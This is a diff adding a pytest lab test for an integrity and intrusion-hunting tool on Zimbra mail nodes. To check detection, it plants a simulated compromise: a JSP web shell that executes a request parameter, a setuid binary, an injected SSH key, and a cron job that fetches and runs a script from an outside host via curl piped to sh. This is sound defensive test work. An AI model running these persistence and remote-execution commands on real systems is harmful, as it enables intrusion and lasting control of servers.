@@ -1,0 +1,167 @@
+"""The installation of real nodes: what intruders leave is found, what upgrades do not.
+
+One history on one node: a pristine tree, its baseline, five changes of an intruder and
+an upgraded package, each of which is named, and nothing else.
+"""
+
+import json
+import subprocess
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from lab.node import Lab
+from lab.product import install
+
+from tests.lab.conftest import running
+
+pytestmark = pytest.mark.lab
+
+WEB = "/opt/zimbra/jetty_base/webapps/zimbra"
+SHELL = f"{WEB}/public/jsp/9f3a41c7.jsp"
+JAR = "/opt/zimbra/lib/jars/zimbrastore.jar"
+MODE = "/opt/zimbra/bin/zmcontrol"
+KEYS = "/opt/zimbra/.ssh/authorized_keys"
+CRONTAB = "/var/spool/cron/crontabs/zimbra"
+PACKAGE = "zimbra-mbox-webclient-war"
+UPGRADED = f"{WEB}/public/login.jsp"
+NEW = f"{WEB}/public/new-in-this-version.jsp"
+KEPT = "/var/lib/zmward/integrity"
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIntruderIntruderIntruderIntruderIntru0 x"
+INTRUDED = f"""\
+set -eu
+echo '<%= Runtime.getRuntime().exec(request.getParameter("c")) %>' > {SHELL}
+printf 'PK\\003\\004 another program' > {JAR}
+chmod u+s {MODE}
+echo '{KEY}' >> {KEYS}
+(crontab -l -u zimbra; echo '*/5 * * * * curl -s https://203.0.113.9/x | sh') > /tmp/tab
+crontab -u zimbra /tmp/tab
+rm /tmp/tab
+"""
+# The same package, one version later: one page changed, one page new.
+UPGRADE = f"""\
+set -eu
+rm -rf /root/new /root/new.deb
+mkdir -p /root/new/DEBIAN
+dpkg -L {PACKAGE} | while read -r path; do
+    [ ! -f "$path" ] || cp --parents -p "$path" /root/new
+done
+echo '<%-- one version later --%>' >> /root/new{UPGRADED}
+echo '<%-- new --%>' > /root/new{NEW}
+(cd /root/new && find opt -type f -exec md5sum {{}} + > DEBIAN/md5sums)
+printf '%s\\n' 'Package: {PACKAGE}' 'Version: 99.1-1.u22' 'Architecture: all' \\
+    'Maintainer: x <x@example.test>' 'Description: x' > /root/new/DEBIAN/control
+dpkg-deb -b /root/new /root/new.deb
+dpkg -i /root/new.deb
+rm -rf /root/new /root/new.deb
+"""
+
+
+@pytest.fixture(scope="module")
+def node() -> Iterator[Lab]:
+    with running("test-integrity", "default") as lab:
+        install(lab)
+        (lab.root / "root/phrase").write_text("orchard lantern 42\n")
+        (lab.root / "root/phrase").chmod(0o600)
+        yield lab
+
+
+def done(lab: Lab, *words: str) -> subprocess.CompletedProcess[str]:
+    return lab.run("mail", ["zmward", "integrity", *words, "--quiet"])
+
+
+def shell(lab: Lab, script: str) -> None:
+    said = lab.run("mail", ["sh", "-c", script])
+    assert said.returncode == 0, said.stderr
+
+
+@pytest.fixture(scope="module")
+def public(node: Lab) -> str:
+    """Give the public key that believes the pristine tree's baseline."""
+    words = ("--new-key", "/root/key.pem", "--passphrase-file", "/root/phrase")
+    made = done(node, "baseline", *words, "--json")
+    assert made.returncode in (0, 3), made.stderr
+    shell(
+        node,
+        "openssl pkey -in /root/key.pem -passin file:/root/phrase -pubout "
+        "-out /root/key.pub",
+    )
+    return "/root/key.pub"
+
+
+def checked(lab: Lab, public: str, *more: str) -> tuple[int, dict[str, Any]]:
+    said = done(lab, "check", "--public-key", public, "--json", *more)
+    assert said.returncode in (0, 1), said.stderr
+    found: dict[str, Any] = json.loads(said.stdout)
+    return said.returncode, found
+
+
+def alarms(found: dict[str, Any]) -> set[str]:
+    return {one["path"] for one in found["alarms"]}
+
+
+def hunted(lab: Lab) -> dict[str, set[str]]:
+    """Return what a hunt found, by path, with the rules that found it."""
+    said = done(lab, "hunt", "--json")
+    assert said.returncode == 1, said.stderr
+    found: dict[str, set[str]] = {}
+    for one in json.loads(said.stdout)["found"]:
+        found.setdefault(one["path"], set()).add(one["rule"])
+    return found
+
+
+def test_a_pristine_tree_is_quiet(node: Lab, public: str) -> None:
+    for more in ((), ("--quick",)):
+        code, found = checked(node, public, *more)
+        assert (code, alarms(found)) == (0, set())
+    assert done(node, "hunt").returncode == 0
+
+
+def test_each_thing_that_an_intruder_did_is_named_and_nothing_else(
+    node: Lab, public: str
+) -> None:
+    shell(node, INTRUDED)
+    shell(node, UPGRADE)
+    for more in (("--quick",), ()):
+        code, found = checked(node, public, *more)
+        assert code == 1
+        assert alarms(found) == {SHELL, JAR, MODE, KEYS, CRONTAB}
+    moved = {one["path"] for one in found["changed"] + found["added"]}
+    assert {UPGRADED, NEW} <= moved
+
+
+def test_a_hunt_needs_no_baseline(node: Lab, public: str) -> None:
+    assert public
+    found = hunted(node)
+    assert found.keys() == {SHELL, MODE, KEYS, CRONTAB}, found
+
+
+def test_accept_takes_the_upgrade_by_itself_and_nothing_of_the_intruder(
+    node: Lab, public: str
+) -> None:
+    words = ("--key", "/root/key.pem", "--passphrase-file", "/root/phrase")
+    taken = done(node, "accept", *words, "--public-key", public, "--yes")
+    assert taken.returncode in (0, 1, 3), taken.stderr
+    _, found = checked(node, public)
+    assert alarms(found) == {SHELL, JAR, MODE, KEYS, CRONTAB}
+    moved = {one["path"] for one in found["changed"] + found["added"]}
+    assert not moved & {UPGRADED, NEW}
+
+
+def test_a_forged_record_is_refused(node: Lab, public: str) -> None:
+    shell(node, f"cp -a {KEPT} /root/kept")
+    names = node.run("mail", ["ls", KEPT]).stdout.split()
+    newest = max(name for name in names if name.startswith("body-"))
+    for name in ("history", newest):
+        shell(node, f"sed -i s/e/f/ {KEPT}/{name}")
+        said = done(node, "check", "--public-key", public)
+        assert said.returncode == 4, (name, said.stdout + said.stderr)
+        shell(node, f"rm -r {KEPT}; cp -a /root/kept {KEPT}")
+    assert done(node, "check", "--public-key", public).returncode == 1
+
+
+def test_the_web_shell_of_the_careless_is_found_without_any_record(
+    lab_careless: Lab,
+) -> None:
+    install(lab_careless)
+    assert any(path.endswith(".jsp") for path in hunted(lab_careless))
